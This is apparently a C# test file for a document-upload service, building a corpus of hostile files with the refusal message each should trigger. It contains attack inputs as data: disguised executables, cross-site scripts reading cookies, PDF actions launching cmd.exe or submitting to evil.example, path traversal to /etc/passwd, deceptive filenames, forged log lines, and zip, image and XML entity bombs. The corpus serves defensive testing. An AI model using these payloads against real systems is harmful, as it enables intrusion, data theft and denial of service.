using System.IO.Compression;
using System.Text;

namespace Shenbao.Tests.Files;

/// <summary>One hostile upload: what it is called, what it holds, and the words of its refusal.</summary>
public sealed record HostileFile(string Id, string FileName, Func<byte[]> Content, string Refusal, bool NeedsScanner = false);

/// <summary>
/// Files an attacker (or a careless tool) sends as proofs, each with the refusal a person must read. Built in code so
/// that each one says what it is; the genuine files beside them (Files/Genuine) are real output of real tools.
/// </summary>
public static class HostileCorpus
{
    public const long MaxBytes = 20L * 1024 * 1024;

    private static byte[] Genuine(string name) => File.ReadAllBytes(Path.Combine(Paths.GenuineFiles, name));

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);

    private static byte[] Join(params byte[][] parts) => [.. parts.SelectMany(p => p)];

    /// <summary>A one-page PDF whose catalog carries <paramref name="catalogExtra"/> and whose trailer <paramref name="trailerExtra"/>.</summary>
    public static byte[] Pdf(string catalogExtra = "", string trailerExtra = "", string extraObjects = "") => Ascii(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>\nendobj\n"
        + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n" + extraObjects
        + "trailer\n<< /Root 1 0 R " + trailerExtra + " >>\n%%EOF\n");

    /// <summary>A PDF whose JavaScript action sits in a compressed object stream, where a plain text search does not see it.</summary>
    private static byte[] PdfWithScriptInAnObjectStream()
    {
        var objects = Ascii("4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>");
        using var packed = new MemoryStream();
        using (var z = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true)) z.Write(objects);
        return Join(Ascii("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 4 0 R >>\nendobj\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
            + packed.Length + " >>\nstream\n"), packed.ToArray(), Ascii("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"));
    }

    /// <summary>A ZIP of the given entries (name → bytes), as an OFD writer or an impostor would make it.</summary>
    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in entries)
            {
                using var stream = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
                stream.Write(content);
            }
        return buffer.ToArray();
    }

    private static readonly byte[] OfdRoot = Encoding.UTF8.GetBytes("""<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>""");
    private static readonly byte[] OfdDocument = Encoding.UTF8.GetBytes("""<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>""");

    private static byte[] Ofd(params (string Name, byte[] Content)[] more) => Zip([("OFD.xml", OfdRoot), ("Doc_0/Document.xml", OfdDocument), .. more]);

    private static readonly Lazy<byte[]> ZipBomb = new(() => Ofd(("Doc_0/Res/huge.xml", new byte[101 * 1024 * 1024])));

    private static readonly byte[] Png = Genuine("python-zlib.png");

    /// <summary>A PNG header declaring the given size, with no picture data behind it (a decompression bomb's shape).</summary>
    private static byte[] PngOfSize(uint width, uint height)
    {
        var ihdr = new byte[25];
        Array.Copy(Png, 8, ihdr, 0, 25);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(8), width);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(12), height);
        return Join(Png[..8], ihdr, [0, 0, 0, 0, .. "IEND"u8, 0xAE, 0x42, 0x60, 0x82]);
    }

    private static byte[] JpegOfSize(ushort width, ushort height)
    {
        var jpeg = Genuine("poppler.jpg");
        for (var i = 2; i < jpeg.Length - 9; i++)
            if (jpeg[i] == 0xFF && jpeg[i + 1] is 0xC0 or 0xC2)
            {
                System.Buffers.Binary.BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 5), height);
                System.Buffers.Binary.BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 7), width);
                return jpeg;
            }
        throw new InvalidOperationException("no frame header in poppler.jpg");
    }

    private static readonly byte[] Exe = [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00, .. "This program cannot be run in DOS mode"u8];

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        // what the content is, whatever the name says
        new("exe-named-pdf", "发票.pdf", () => Exe, "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("elf-named-png", "营业执照.png", () => [0x7F, .. "ELF"u8, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0], "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("html-named-pdf", "审计报告.pdf", () => Ascii("<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"), "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("svg-named-png", "证书.png", () => Ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("svg-named-jpg", "照片.jpg", () => Ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("eicar-named-pdf", "合同.pdf", () => ClamDaemon.Eicar, "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("docx-named-ofd", "批文.ofd", () => Zip(("word/document.xml", OfdDocument), ("[Content_Types].xml", OfdDocument)), "的内容不是 PDF、JPG、PNG、OFD 文件"),
        new("empty", "空白.pdf", () => [], "是空文件"),
        new("oversize", "扫描件.pdf", () => { var big = new byte[MaxBytes + 1]; Pdf().CopyTo(big, 0); return big; }, "超过 20 MB 的上限"),
        // the name must say what the file is
        new("double-extension", "invoice.pdf.exe", () => Genuine("handwritten.pdf"), "的扩展名是“.exe”，内容却是 PDF 文件"),
        new("pdf-named-png", "证书.png", () => Genuine("handwritten.pdf"), "的扩展名是“.png”，内容却是 PDF 文件"),
        new("png-named-pdf", "证书.pdf", () => Png, "的扩展名是“.pdf”，内容却是 PNG 文件"),
        new("no-extension", "证明材料", () => Genuine("handwritten.pdf"), "没有扩展名"),
        new("rtl-override", "invoice\u202Efdp.exe", () => Genuine("handwritten.pdf"), "含有改变文字方向或不可见的字符"),
        new("zero-width", "发\u200B票.pdf", () => Genuine("handwritten.pdf"), "含有改变文字方向或不可见的字符"),
        new("nul-in-name", "发票\0.pdf", () => Genuine("handwritten.pdf"), "含有控制字符"),
        new("esc-in-name", "发票\u001B[31m.pdf", () => Genuine("handwritten.pdf"), "含有控制字符"),
        new("del-in-name", "发票\u007F.pdf", () => Genuine("handwritten.pdf"), "含有控制字符"),
        new("forged-log-line", "a.pdf\r\n2026-12-03 INFO 管理员已登录.pdf", () => Genuine("handwritten.pdf"), "含有控制字符"),
        new("path-traversal", "../../../etc/passwd.pdf", () => Genuine("handwritten.pdf"), "含有路径分隔符"),
        new("windows-traversal", "..\\..\\Windows\\win.pdf", () => Genuine("handwritten.pdf"), "含有路径分隔符"),
        new("hidden-name", ".pdf", () => Genuine("handwritten.pdf"), "不能以“.”开头"),
        new("name-of-300", new string('报', 296) + ".pdf", () => Genuine("handwritten.pdf"), "文件名过长（300 个字符，最多 100 个）"),
        // PDFs that act, carry or hide
        new("pdf-javascript", "申报书.pdf", () => Pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "含有脚本（/JavaScript）"),
        new("pdf-js-escaped-name", "申报书.pdf", () => Pdf("/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"), "含有脚本"),
        new("pdf-launch", "申报书.pdf", () => Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "启动外部程序的动作（/Launch）"),
        new("pdf-embedded-file", "申报书.pdf", () => Pdf("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"), "嵌入的文件"),
        new("pdf-submit-form", "申报书.pdf", () => Pdf("/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F (http://evil.example/) >>"), "提交表单的动作"),
        new("pdf-encrypted", "申报书.pdf", () => Pdf(trailerExtra: "/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"), "已加密或设置了密码"),
        new("pdf-script-in-object-stream", "申报书.pdf", PdfWithScriptInAnObjectStream, "含有脚本"),
        new("pdf-eicar-appended", "申报书.pdf", () => Join(Genuine("handwritten.pdf"), ClamDaemon.Eicar), "结束标记（%%EOF）之后还附带了其他数据"),
        new("pdf-zip-polyglot", "申报书.pdf", () => Join(Genuine("chromium-print.pdf"), Zip(("run.exe", Exe))), "结束标记（%%EOF）之后还附带了其他数据"),
        new("pdf-truncated", "申报书.pdf", () => Genuine("cairo.pdf")[..4000], "不完整"),
        // pictures that are more than pictures
        new("png-zip-appended", "照片.png", () => Join(Png, Zip(("run.exe", Exe))), "在图片结束标记之后还附带了其他数据"),
        new("png-bomb", "照片.png", () => PngOfSize(100_000, 100_000), "的图片尺寸过大（100000×100000 像素"),
        new("png-truncated", "照片.png", () => Png[..100], "的图片数据不完整或已损坏"),
        new("jpeg-html-appended", "照片.jpg", () => Join(Genuine("poppler.jpg"), Ascii("<html><script>alert(1)</script></html>")), "在图片结束标记之后还附带了其他数据"),
        new("jpeg-bomb", "照片.jpg", () => JpegOfSize(65_000, 65_000), "的图片尺寸过大（65000×65000 像素"),
        // OFD packages with foreign content
        new("ofd-with-html", "批文.ofd", () => Ofd(("Doc_0/index.html", Ascii("<html><script>alert(1)</script></html>"))), "包内有不属于 OFD 文档的文件“Doc_0/index.html”"),
        new("ofd-with-exe", "批文.ofd", () => Ofd(("Doc_0/setup.exe", Exe)), "包内有不属于 OFD 文档的文件“Doc_0/setup.exe”"),
        new("ofd-exe-named-png", "批文.ofd", () => Ofd(("Doc_0/Res/image_1.png", Exe)), "是程序、网页或压缩包"),
        new("ofd-nested-zip", "批文.ofd", () => Ofd(("Doc_0/Res/font.ttf", Zip(("a.exe", Exe)))), "是程序、网页或压缩包"),
        new("ofd-script-in-xml", "批文.ofd", () => Ofd(("Doc_0/Pages/Page_0/Content.xml", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><Page><script>alert(1)</script></Page>"))), "是程序、网页或压缩包"),
        new("ofd-dtd", "批文.ofd", () => Ofd(("Doc_0/Tags.xml", Ascii("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x \"xx\"><!ENTITY y \"&x;&x;&x;&x;\">]><a>&y;</a>"))), "含有文档类型定义"),
        new("ofd-path-traversal", "批文.ofd", () => Ofd(("../../evil.xml", OfdDocument)), "包内有不安全的路径“../../evil.xml”"),
        new("ofd-wrong-root", "批文.ofd", () => Zip(("OFD.xml", OfdDocument)), "不是 OFD 文档的入口"),
        new("ofd-zip-bomb", "批文.ofd", () => ZipBomb.Value, "解压后的内容过大（可能是压缩炸弹）"),
        new("ofd-eicar-appended", "批文.ofd", () => Join(Genuine("python-deflated.ofd"), ClamDaemon.Eicar), "在压缩包的结束位置之后还附带了其他数据"),
        // well-formed, so only the virus scanner can tell
        new("pdf-eicar-inside", "申报书.pdf", () => Pdf(extraObjects: "4 0 obj\n<< /Length 68 >>\nstream\n" + Encoding.ASCII.GetString(ClamDaemon.Eicar) + "\nendstream\nendobj\n"),
            "含有病毒或恶意代码（Shenbao.Test.EICAR", NeedsScanner: true),
        new("png-eicar-in-a-chunk", "照片.png", () => PngWithTextChunk(ClamDaemon.Eicar), "含有病毒或恶意代码（Shenbao.Test.EICAR", NeedsScanner: true),
    ];

    /// <summary>A genuine PNG with a private text chunk before IEND: well-formed, whatever the chunk holds.</summary>
    private static byte[] PngWithTextChunk(byte[] text)
    {
        var chunk = Join([(byte)(text.Length >> 24), (byte)(text.Length >> 16), (byte)(text.Length >> 8), (byte)text.Length], "tEXt"u8.ToArray(), text, [0, 0, 0, 0]);
        return Join(Png[..^12], chunk, Png[^12..]);
    }

    public static HostileFile Named(string id) => All.Single(f => f.Id == id);

    public static TheoryData<string> Ids(bool needsScanner) => [.. All.Where(f => f.NeedsScanner == needsScanner).Select(f => f.Id)];

    public static IReadOnlyList<string> GenuineFileNames => [.. Directory.GetFiles(Paths.GenuineFiles).Select(f => Path.GetFileName(f)).Order(StringComparer.Ordinal)];

    public static TheoryData<string> GenuineNames => [.. GenuineFileNames];
}
